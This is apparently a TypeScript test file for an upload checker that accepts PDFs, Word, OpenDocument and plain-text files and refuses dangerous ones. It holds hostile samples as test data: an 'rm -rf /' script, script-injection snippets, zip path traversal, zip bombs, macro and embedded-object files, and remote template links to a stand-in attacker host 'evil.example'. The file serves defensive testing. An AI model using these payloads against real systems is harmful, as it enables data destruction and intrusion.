import { randomBytes } from "node:crypto";
import { describe, expect, test } from "vitest";
import { AbideError } from "../http/error.ts";
import { toContent } from "./file-check.ts";
import { openParts, toFile, toPdf, toZipFile, types, word, wordParts, type Part } from "./test-documents.ts";

const contentOf = (bytes: Uint8Array | string) => toContent(toFile(Buffer.from(bytes)));
const withParts = (...more: readonly Part[]) => toZipFile([...wordParts, ...more]);
/** The document with one part in the place of another of its name. */
const withInstead = (part: Part, parts = wordParts) =>
  toZipFile(parts.map((other) => (other.name === part.name ? part : other)));
const zeros = (size: number) => new Uint8Array(size);

describe("is taken for what it is", () => {
  test.each<[string, Uint8Array | string, string]>([
    ["a PDF", toPdf(), "pdf"],
    ["a large PDF", toPdf(300_000), "pdf"],
    ["a Word document", word, "docx"],
    [
      "a Word document with pictures",
      withParts({ name: "word/media/image1.png", content: randomBytes(90_000) }),
      "docx",
    ],
    [
      "a Word document written by a program that streams, with sizes behind the parts",
      toZipFile(wordParts.map((part) => ({ ...part, flags: 8, local: { size: 0 }, gap: zeros(16) }))),
      "docx",
    ],
    [
      "a Word document made from a template on the writer's disk",
      withParts({
        name: "word/_rels/settings.xml.rels",
        content: `<Relationship Type="x/attachedTemplate" Target="file:///C:\\Users\\mara\\CV.dotx" TargetMode="External"/>`,
      }),
      "docx",
    ],
    ["an OpenDocument text", toZipFile(openParts), "odt"],
    ["plain text", "Mara Lindqvist\r\n\tZehn Jahre auf Schiffen – mit Ö und 日本\n", "txt"],
    ["plain text with a byte order mark", "\ufeffMara", "txt"],
    ["text whose characters lie across what is read at once", `${"a".repeat(65_535)}äöü${"€".repeat(60_000)}`, "txt"],
  ])("%s", async (_, bytes, kind) => {
    expect(await contentOf(bytes)).toEqual({ kind });
  });
});

describe("is refused", () => {
  test.each<[string, Uint8Array | string, string]>([
    ["nothing", "", "file-empty"],
    ["text of nothing but white space", " \n\t ", "file-empty"],
    ["HTML, whatever it is called", "<!doctype html><script>alert(1)</script>", "file-kind"],
    ["a drawing with script in it", `\n <svg onload="alert(1)"/>`, "file-kind"],
    ["a script", "#!/bin/sh\nrm -rf /", "file-kind"],
    ["Rich Text", "{\\rtf1\\ansi }", "file-kind"],
    ["an old Word document", Buffer.from("d0cf11e0a1b11ae1000000000000", "hex"), "file-kind"],
    ["a program", Buffer.from("MZ\u0000\u0001\u0002"), "file-kind"],
    ["a picture", Buffer.from("89504e470d0a1a0a", "hex"), "file-kind"],
    ["text in Latin-1", Buffer.from("M\u00e4rz", "latin1"), "file-kind"],
    ["text in UTF-16", Buffer.from("\ufeffMara", "utf16le"), "file-kind"],
    ["text with NUL", "Mara\0Lindqvist", "file-kind"],
    ["text that breaks off in the middle of a character", Buffer.from("Mär").subarray(0, 2), "file-kind"],
    ["text with what a terminal would obey", "Mara\u001b[2J", "file-kind"],
    ["a PDF that breaks off", toPdf(5_000).subarray(0, 4_000), "file-kind"],
    ["a PDF in name only", "%PDF-x", "file-kind"],
    ["something before a PDF", Buffer.concat([Buffer.from("<script>"), toPdf()]), "file-kind"],
    ["a PDF that is a zip as well", Buffer.concat([toPdf(), word]), "file-kind"],
    ["a PDF within the comment of a zip", toZipFile(wordParts, { comment: toPdf().toString() }), "file-kind"],
    ["a zip that is no document", toZipFile([{ name: "a.txt", content: "a" }]), "file-kind"],
    ["an empty zip", toZipFile([]), "file-kind"],
    [
      "a spreadsheet",
      withInstead({ name: "[Content_Types].xml", content: types().replace("wordprocessingml", "spreadsheetml") }),
      "file-kind",
    ],
    ["a document and another one in one", toZipFile([...openParts, ...wordParts]), "file-kind"],
    ["a document without its text", toZipFile(wordParts.slice(0, 2)), "file-kind"],
    [
      "a presentation called a text",
      withInstead(
        { name: "mimetype", content: "application/vnd.oasis.opendocument.presentation", stored: true },
        openParts,
      ),
      "file-kind",
    ],
    [
      "types that are spelled with references",
      withInstead({
        name: "[Content_Types].xml",
        content: types(`<Override PartName="/x" ContentType="x.macro&#69;nabled"/>`),
      }),
      "file-kind",
    ],
    [
      "types that are declared elsewhere",
      withInstead({ name: "[Content_Types].xml", content: `<!DOCTYPE a [<!ENTITY b "c">]>${types()}` }),
      "file-kind",
    ],
    ["a document cut short", word.subarray(0, word.length - 30), "file-kind"],
    ["a document with something behind it", Buffer.concat([word, zeros(10)]), "file-kind"],
    [
      "a zip behind something else",
      toZipFile(wordParts, { before: Buffer.from("PK\u0003\u0004 and more") }),
      "file-kind",
    ],
    ["something hidden between the parts", withInstead({ ...wordParts[1]!, gap: randomBytes(900) }), "file-kind"],
    [
      "something hidden before the directory",
      withParts({ name: "a.xml", content: "a", gap: randomBytes(900) }),
      "file-kind",
    ],
    ["two parts of one name", withParts({ name: "WORD/document.xml", content: "<other/>" }), "file-kind"],
    ["a part of two names", withParts({ name: "a.xml", content: "a", local: { name: "b.xml" } }), "file-kind"],
    [
      "a part with a second name behind the first",
      withParts({ name: "a.xml", content: "a", extra: Buffer.from([0x75, 0x70, 1, 0, 1]) }),
      "file-kind",
    ],
    ["a part that leads out of the folder", withParts({ name: "../../a.xml", content: "a" }), "file-kind"],
    ["a part packed in an unknown way", withParts({ name: "a.xml", content: "a", method: 14 }), "file-kind"],
    [
      "a part that cannot be unpacked",
      withParts({ name: "a.xml", content: "no deflate", stored: true, method: 8 }),
      "file-kind",
    ],
    ["a part that is smaller than it says", withParts({ name: "a.xml", content: "a", claims: 500 }), "file-kind"],
    ["a directory that lies elsewhere", toZipFile(wordParts, { directory: 3 }), "file-kind"],
    ["a part that is locked", withParts({ name: "a.xml", content: "a", flags: 1 }), "file-locked"],
    [
      "an OpenDocument text with a password",
      withInstead({ name: "META-INF/manifest.xml", content: "<manifest:encryption-data/>" }, openParts),
      "file-locked",
    ],
    ["a bomb of zeros", withParts({ name: "word/media/a.xml", content: zeros(20_000_000) }), "file-bomb"],
    [
      "a bomb of many parts",
      withParts(...Array.from({ length: 80 }, (_, at) => ({ name: `${at}.xml`, content: zeros(1_000_000) }))),
      "file-bomb",
    ],
    [
      "a bomb that says it is small",
      withParts({ name: "a.xml", content: zeros(20_000_000), claims: 30_000 }),
      "file-bomb",
    ],
    [
      "a bomb in the types",
      withInstead({ name: "[Content_Types].xml", content: types() + " ".repeat(300_000), claims: 900 }),
      "file-bomb",
    ],
    [
      "a bomb of parts that lie over each other",
      withParts(
        ...Array.from({ length: 50 }, (_, at) => ({ name: `${at}.xml`, content: "a".repeat(9_000), overlaps: at > 0 })),
      ),
      "file-bomb",
    ],
    [
      "a bomb of thousands of parts",
      withParts(...Array.from({ length: 1_200 }, (_, at) => ({ name: `${at}`, content: "" }))),
      "file-bomb",
    ],
    ["a claim of millions of parts", toZipFile(wordParts, { count: 60_000 }), "file-bomb"],
    ["a macro", withParts({ name: "word/vbaProject.bin", content: "macro" }), "file-macro"],
    [
      "a macro under another name",
      withInstead({
        name: "[Content_Types].xml",
        content: types(`<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>`),
      }),
      "file-macro",
    ],
    [
      "a document with macros called one without",
      withInstead({
        name: "[Content_Types].xml",
        content: types().replace(
          "openxmlformats-officedocument.wordprocessingml.document",
          "ms-word.document.macroEnabled",
        ),
      }),
      "file-macro",
    ],
    ["an embedded object", withParts({ name: "word/embeddings/oleObject1.bin", content: "x" }), "file-macro"],
    ["a control", withParts({ name: "word/activeX/activeX1.xml", content: "x" }), "file-macro"],
    [
      "a template that Word would fetch",
      withParts({
        name: "word/_rels/settings.xml.rels",
        content: `<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`,
      }),
      "file-macro",
    ],
    [
      "a template on somebody's share",
      withParts({
        name: "word/_rels/settings.xml.rels",
        content: `<Relationship Type="x/attachedTemplate" Target="file://evil.example/a.dotm" TargetMode="External"/>`,
      }),
      "file-macro",
    ],
    [
      "an OpenDocument text with macros",
      toZipFile([...openParts, { name: "Basic/Standard/Module1.xml", content: "x" }]),
      "file-macro",
    ],
  ])("%s", async (_, bytes, problem) => {
    expect(await contentOf(bytes)).toEqual({ problem });
  });

  test("a zip in a zip in a zip: none of the inner ones is opened", async () => {
    let quine = word;
    for (let depth = 0; depth < 20; depth++) quine = toZipFile([{ name: "r/r.zip", content: quine }]);
    const file = toFile(quine);
    expect(await toContent(file)).toEqual({ problem: "file-kind" });
    const inDocument = withParts({ name: "word/embeddings/r.zip", content: quine });
    expect(await contentOf(inDocument)).toEqual({ problem: "file-macro" });
  });
});

test("a document is never read as a whole, however large", async () => {
  const large = withParts({ name: "word/media/a.jpg", content: randomBytes(9_000_000), stored: true });
  for (const bytes of [large, toPdf(9_000_000), Buffer.alloc(9_000_000, "text ")]) {
    const file = toFile(bytes);
    expect(await toContent(file)).toHaveProperty("kind");
    expect(file.asked.most).toBeLessThanOrEqual(66_000);
    expect(file.asked.bytes).toBeLessThanOrEqual(9_100_000);
  }
});

test("a file that cannot be read is a failure, and no kind of file", async () => {
  const bytes = withParts({ name: "a.xml", content: randomBytes(200_000) });
  for (const broken of [0, 100_000, bytes.length - 10]) {
    const file = {
      size: bytes.length,
      read: async (start: number, end: number) => {
        if (start <= broken && broken < end) throw new AbideError("file-broken", "It is broken.");
        return bytes.subarray(start, end);
      },
    };
    await expect(toContent(file)).rejects.toMatchObject({ code: "file-broken" });
  }
});
